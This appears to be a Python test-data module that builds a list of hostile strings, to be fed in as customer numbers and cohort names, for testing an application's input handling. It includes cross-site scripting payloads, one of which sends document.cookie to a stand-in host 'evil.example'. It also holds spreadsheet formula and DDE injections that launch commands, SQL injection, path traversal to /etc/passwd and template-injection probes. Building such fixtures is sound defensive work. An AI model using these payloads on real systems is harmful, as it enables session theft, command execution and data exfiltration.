"""Texts that people with bad intentions, or bad luck, have as customer numbers and cohort names."""

from __future__ import annotations

_SCRIPTS = (
    "alert(1)", "window.__hit=1", "fetch('https://evil.example/'+document.cookie)",
    "import('https://evil.example/x.js')", "new Image().src='//evil.example/p.png'",
)  # fmt: skip
_HTML = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}//",
    "<iframe srcdoc='<script>{}</script>'>", "<a href='javascript:{}'>x</a>",
    "<body onload={}>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
    "<math><mtext><script>{}</script>", "</style><script>{}</script>",
    "</title><script>{}</script>",
    "\"><script>{}</script>", "'-{}-'", "--><script>{}</script>", "<object data='javascript:{}'>",
    "<form action='javascript:{}'><button>x", "<video><source onerror={}>",
    "<b onmouseover={}>x</b>",
    "<marquee onstart={}>x</marquee>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='//evil.example/'><script>{}</script>", "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
)  # fmt: skip
_MARKDOWN = (
    "![a](https://evil.example/p.png)", "[click](https://evil.example)", "[x](javascript:alert(1))",
    "<https://evil.example>", "https://evil.example/auto", "www.evil.example", "a@evil.example",
    ":material/key:", ":red[danger]", ":streamlit:", "$\\href{javascript:alert(1)}{x}$",
    "$$\\frac{1}{0}$$", "# heading", "**bold**", "`code`", "~~gone~~", "| a | b |", "- item",
    "> quote", "[^1]", "[a]: https://evil.example", "![][a]", "\\", "***", "---", "```",
    "%{x}", "%{customdata[0]}", "<b>%{y}</b>", "<extra></extra>",
    "<a href='https://evil.example'>x</a>", "<span style='font-size:900px'>x</span>",
    "{name}", "{0.__class__}", "%s%s%n", "${7*7}", "{{7*7}}", "<%= 7*7 %>",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/C calc'!A0", "\t=1+1", " =1+1",
    "=HYPERLINK(\"//evil.example\")",
    "{=1}", "\uff1d1+1", "\uff0b1", "=1+1\",=1+1", "'=1+1", "%0A=1+1",
    "=IMPORTXML(\"//evil.example\")",
    "DDE(\"cmd\")", "=-1", "+-@=", "|calc", "=\u200b1",
)  # fmt: skip
_TEXT = (
    "O'Brien", "Robert'); DROP TABLE users;--", "\" OR 1=1 --", "../../etc/passwd", "CON", "NUL",
    "nan", "None", "null", "undefined", "true", "1e309", "0x1F", "00123", "\u202egnp.exe",
    "\u200b", "\ufeffbom", "a\u0300\u0301", "\U0001f469\u200d\U0001f4bb", "\u0627\u0644\u0639",
    "\u0130stanbul", "\u00df", "\ufdfa", "A" * 400, "\x1b[31mred", "-", ".", "~", "^", "&amp;",
    "C:\\Windows", "\\\\host\\share", "a,b;c", "\"quoted\"", "two  spaces", "\u00a0", "\u2028x",
)  # fmt: skip
HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        (*(shape.format(script) for shape in _HTML for script in _SCRIPTS),
         *_MARKDOWN, *_FORMULAS, *_TEXT)
    )
)  # fmt: skip
